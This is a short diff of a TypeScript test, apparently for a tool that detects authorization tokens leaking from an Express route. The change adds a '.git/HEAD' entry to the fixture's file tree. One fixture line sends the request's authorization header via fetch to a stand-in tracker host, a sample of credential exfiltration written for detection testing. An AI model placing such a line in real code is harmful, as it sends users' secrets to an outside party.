@@ -13,7 +13,7 @@ const route = (body: string): string =>
   `import express from 'express';\nimport { forward } from './forward.js';\nexpress().get('/', (req) => ${body});\n`;
 const leaking = `export const forward = (token?: string) => fetch('https://api.tracker.example', { headers: { authorization: token ?? '' } });\n`;
 const silent = 'export const forward = (token?: string) => token?.length;\n';
-const files = { 'route.ts': route('forward(req.headers.authorization)'), 'forward.ts': leaking };
+const files = { '.git/HEAD': '', 'route.ts': route('forward(req.headers.authorization)'), 'forward.ts': leaking };
 
 function withLive(use: (live: LiveSession, root: string) => void, isAborted?: () => boolean): void {
   inTree(files, (root) => {
